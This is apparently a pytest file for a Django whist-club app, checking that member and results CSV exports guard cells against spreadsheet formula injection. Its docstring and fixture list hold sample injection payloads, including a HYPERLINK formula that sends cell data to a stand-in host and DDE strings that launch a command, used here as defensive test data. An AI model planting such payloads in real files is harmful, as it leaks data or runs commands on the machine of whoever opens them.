"""CSV downloads open in a spreadsheet: a text cell must never run there as a formula.

A member named ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
(typed by anyone the desk lets in as a guest) would run when the organiser opens the file. Text
cells that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a leading ``'``
(the spreadsheet shows them as text); numbers stay numbers; the member import reads its own
export back to the same members.
"""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from clubs import csv_members
from clubs.models import Member
from tests.archive.helpers import small_drive
from tests.factories import make_cast, make_member
from whistdrive.engines.spreadsheets import safe_cell
from whistdrive.evening.simulate import simulate_event

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already looks guarded: guarded again, so it reads back as typed
]


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_text_cells_that_a_spreadsheet_would_run_are_guarded_and_numbers_are_kept():
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_cell(v) for v in ("Ann Smith", "", "O'Brien", "7", "-3", "+44 20 7946 0000", 12, -4)] == [
        "Ann Smith", "", "O'Brien", "7", "-3", "'+44 20 7946 0000", 12, -4,
    ]  # fmt: skip


def test_the_member_export_guards_text_cells_and_imports_back_to_the_same_members(client):
    club_a, _club_b, olive, _sam, _bea = make_cast()
    for number, name in enumerate(HOSTILE, start=1):
        make_member(club_a, name.strip() or name, membership_number=str(number), phone="-" + str(number))
    client.force_login(olive)
    exported = client.get(reverse("members_export", args=[club_a.pk])).content
    rows = _rows(exported)
    for row in rows[1:]:
        assert row[0][0] not in "=+-@\t\r", row
        assert row[2].isdigit()  # membership numbers are numbers
        assert row[4].startswith("-")  # "-3" is a number, not a formula: kept as it is
    # Read back (as the import reads it), every member is as stored.
    preview = csv_members.read_members(exported)
    stored = {m.membership_number: (m.name, m.phone) for m in Member.objects.filter(club=club_a)}
    assert {r.membership_number: (r.name, r.phone) for r in preview.rows} == stored


def test_a_guarded_cell_in_an_uploaded_file_is_read_as_the_text_it_guards(client):
    club_a, _club_b, olive, _sam, _bea = make_cast()
    client.force_login(olive)
    text = "name,phone\n'=Ann Smith,'+44 20 7946 0000\nO'Brien,\n"
    response = client.post(
        reverse("members_import", args=[club_a.pk]), {"file": SimpleUploadedFile("m.csv", text.encode(), "text/csv")}
    )
    names = [(r.name, r.phone) for r in response.context["preview"].rows]
    assert names == [("=Ann Smith", "+44 20 7946 0000"), ("O'Brien", "")]


def test_the_results_csv_guards_names_and_keeps_numbers_as_numbers(client):
    club_a, _club_b, olive, _sam, _bea = make_cast()
    event = simulate_event(fmt=small_drive(movement="stationary"), tables=2, spares=1, seed=4, club=club_a)
    players = list(event.entrants.order_by("card_number"))
    for player, name in zip(players, HOSTILE, strict=False):
        player.name = name
        player.save(update_fields=["name"])
    client.force_login(olive)
    rows = _rows(client.get(reverse("event_results_csv", args=[event.pk])).content)
    names = {row[1] for row in rows[1:]}
    assert {"'" + name for name in HOSTILE} <= names
    for row in rows[1:]:
        assert row[0].isdigit() and row[3].isdigit()  # rank and total
